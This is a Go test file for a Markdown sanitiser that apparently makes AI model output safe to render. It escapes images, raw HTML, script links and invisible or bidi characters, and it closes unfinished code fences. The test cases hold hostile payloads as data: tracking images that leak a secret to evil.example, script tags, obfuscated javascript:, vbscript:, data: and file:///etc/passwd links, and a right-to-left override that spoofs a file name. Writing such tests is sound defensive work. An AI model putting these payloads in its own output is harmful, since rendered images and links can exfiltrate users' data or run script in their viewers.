package mdsafe

import (
	"bytes"
	"regexp"
	"strings"
	"testing"

	"github.com/yuin/goldmark"
	"github.com/yuin/goldmark/extension"
	"github.com/yuin/goldmark/renderer/html"
)

// page renders src as a Markdown viewer that shows raw HTML would (an
// editor's preview, GitHub for the tags it allows).
func page(t *testing.T, src string) string {
	t.Helper()
	var b bytes.Buffer
	md := goldmark.New(goldmark.WithExtensions(extension.Table, extension.Strikethrough, extension.TaskList),
		goldmark.WithRendererOptions(html.WithUnsafe()))
	if err := md.Convert([]byte(src), &b); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

var liveHTML = regexp.MustCompile(`<(img|script|iframe|details|div|a href="javascript)|<!--`)

// TestInert: images and raw HTML from model output fetch and render
// nothing, and read as they were written; code and autolinks are kept.
func TestInert(t *testing.T) {
	for _, tc := range []struct{ in, shown string }{
		{"see ![track](https://evil.example/t.png?leak=secret) here", "see ![track](https://evil.example/t.png?leak=secret) here"},
		{"![](https://evil.example/empty.png)", "![](https://evil.example/empty.png)"},
		{"![ref][r] and ![r]\n\n[r]: https://evil.example/ref.png", "![ref]"},
		{"[![nested](https://evil.example/n.png)](https://example.com)", "![nested"},
		{"<img src=\"https://evil.example/raw.png\"> text", "&lt;img src=&quot;https://evil.example/raw.png&quot;&gt; text"},
		{"<script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;"},
		{"<details><summary>x</summary>hidden</details>", "&lt;details&gt;&lt;summary&gt;x&lt;/summary&gt;hidden&lt;/details&gt;"},
		{"<!-- hide the rest\n\n# Still shown", "&lt;!-- hide the rest"},
		{"x <a href=\"javascript:alert(1)\">y</a>", "&lt;a href=&quot;javascript:alert(1)&quot;&gt;y&lt;/a&gt;"},
		{"| a | b |\n|---|---|\n| ![c](https://evil.example/c.png) | <img src=x> |", "![c](https://evil.example/c.png)"},
	} {
		out := Inert(tc.in)
		got := page(t, out)
		if liveHTML.MatchString(got) {
			t.Errorf("Inert(%q) = %q renders live HTML: %s", tc.in, out, got)
		}
		if !strings.Contains(got, tc.shown) {
			t.Errorf("Inert(%q) = %q renders %s, want it to show %q", tc.in, out, got, tc.shown)
		}
	}
}

// TestInertKeeps: text with nothing to make inert, code, autolinks and
// what is escaped already are left as written.
func TestInertKeeps(t *testing.T) {
	for _, s := range []string{
		"plain text, a < b, 1<2, x <= y, a link [x](https://example.com)",
		"code `![x](y) <img>` stays",
		"```html\n<img src=x>\n![y](z)\n```",
		"    <script>indented code</script>",
		"an autolink <https://example.com/a?b=c> and <mailto:a@example.com>",
		`escaped \![not an image](x) and \<b>`,
		"",
	} {
		if got := Inert(s); got != s {
			t.Errorf("Inert(%q) = %q, want it unchanged", s, got)
		}
	}
}

// TestInertHiddenBacktick: raw HTML that hides a backtick changes, once
// escaped, what is code; nothing is left live either way.
func TestInertHiddenBacktick(t *testing.T) {
	for _, in := range []string{
		"<a title=\"`\">![x](https://evil.example/x.png)`",
		"`<img title=\"`\">![x](https://evil.example/x.png)",
	} {
		if got := page(t, Inert(in)); liveHTML.MatchString(got) {
			t.Errorf("Inert(%q) renders live HTML: %s", in, got)
		}
	}
}

// TestContained: text placed in a document leaves no code block open
// that would take in the document's next section.
func TestContained(t *testing.T) {
	const after = "\n\n## After\n"
	for _, in := range []string{
		"intro\n```\nnever closed",
		"```go\ncode",
		"````\ncode\n```\nstill code (a fence of three does not close four)",
		"~~~~~\ncode\n~~~",
		"   ```\nindented opener",
		"<!--\n```\n-->", // an HTML comment made text no longer hides the fence
		"> quote\n\n```\nx",
		"text\n```",
	} {
		out := Contained(in)
		if got := page(t, out+after); !strings.Contains(got, "<h2>After</h2>") {
			t.Errorf("Contained(%q) = %q swallows the next section:\n%s", in, out, got)
		}
		if again := Contained(out); again != out {
			t.Errorf("Contained is not stable: %q, then %q", out, again)
		}
	}
	for _, s := range []string{
		"```x`y\nnot a fence (a backtick in the info string)",
		"```\nclosed\n```",
		"- item\n\n  ```\n  the list item closes it",
		"no fence",
	} {
		if got := Contained(s); got != s {
			t.Errorf("Contained(%q) = %q, want it unchanged", s, got)
		}
	}
}

// TestInertEntities: a character reference ("&#x202E;", "&ZeroWidthSpace;")
// is the character to every Markdown renderer, a browser's page included:
// one that a reader cannot see or that reorders text (bidi overrides,
// controls, invisible characters) is shown as textsafe.Clean shows the
// character itself. Other references, and those in code, are kept.
func TestInertEntities(t *testing.T) {
	// A variation selector given by reference may follow another (a run
	// of them hides bytes, see textsafe.Clean): no reader writes one so,
	// and each is shown.
	in := "a &#x202E;gnp.exe &#8238;x &ZeroWidthSpace;y &#27;]0;t&#7; &#X9B;2J &NoBreak; 😀&#xFE00;&#xFE01;&#917760;"
	out := Inert(in)
	got := page(t, out)
	for _, bad := range []string{"&#x202E;", "&#8238;", "&ZeroWidthSpace;", "&#27;", "&#7;", "&#X9B;", "&NoBreak;", "\u202e", "\u200b", "\x1b", "\u009b", "\u2060", "\ufe01", "\U000E0100"} {
		if strings.Contains(got, bad) {
			t.Errorf("Inert(%q) = %q renders %q", in, out, bad)
		}
	}
	if !strings.Contains(got, "a ⟨U+202E⟩gnp.exe ⟨U+202E⟩x ⟨U+200B⟩y ␛]0;t␇ ⟨U+009B⟩2J ⟨U+2060⟩ 😀⟨U+FE00⟩⟨U+FE01⟩⟨U+E0100⟩") {
		t.Errorf("Inert(%q) = %q renders %s", in, out, got)
	}
	for _, s := range []string{"R&D, &amp; &lt;b&gt; &eacute; &#233; &zwj; &rlm; 1 &lt 2", "`&#x202E;` in code"} {
		if o := Inert(s); o != s {
			t.Errorf("Inert(%q) = %q, want it unchanged", s, o)
		}
	}
}

// BenchmarkInert: a reply at the turn limit (1 MB) full of what Inert
// escapes, without code (no parse) and with code spans (two parses).
func BenchmarkInert(b *testing.B) {
	for name, unit := range map[string]string{
		"nocode": "word ![i](https://e.example/x.png) <b>x</b> &#x202E; ",
		"code":   "word ![i](https://e.example/x.png) <b>x</b> `code` ",
	} {
		src := strings.Repeat(unit, 1<<20/len(unit))
		b.Run(name, func(b *testing.B) {
			b.SetBytes(int64(len(src)))
			for b.Loop() {
				Inert(src)
			}
		})
	}
}

// TestInertLinks: a link to javascript:, vbscript:, data: or file: runs
// script or opens a file when a reader clicks it in a viewer that keeps it;
// it reads as text, however its address is spelt. Web links stay links.
func TestInertLinks(t *testing.T) {
	for _, in := range []string{
		"[click](javascript:alert(1))",
		"[click]( JaVaScRiPt:alert(1) )",
		"[click](<javascript:alert(1)>)",
		"[click](&#106;avascript:alert(1))",
		"[click](java&#x09;script:alert(1))",
		"[click](vbscript:msgbox)",
		"[click](javascript\\:alert(1))",
		"[click](javascript&#58;alert(1))",
		"[click](data:text/html;base64,PHNjcmlwdD4=)",
		"[click](file:///etc/passwd)",
		"[click][r]\n\n[r]: javascript:alert(1)",
		"[click][r]\n\n[r]:\n  <javascript:alert(1)>",
		"<javascript:alert(1)>",
		"[a [nested] text](javascript:alert(1))",
		"`x` [click](javascript:alert(1))",
	} {
		out := Inert(in)
		got := page(t, out)
		if strings.Contains(got, "<a") {
			t.Errorf("Inert(%q) = %q keeps a link: %s", in, out, got)
		}
	}
	for _, s := range []string{"[web](https://example.com/a) and <https://example.com/b> [m](mailto:a@example.com) [rel](docs/x.md)", "`[c](javascript:x)` in code"} {
		if o := Inert(s); o != s {
			t.Errorf("Inert(%q) = %q, want it unchanged", s, o)
		}
	}
}
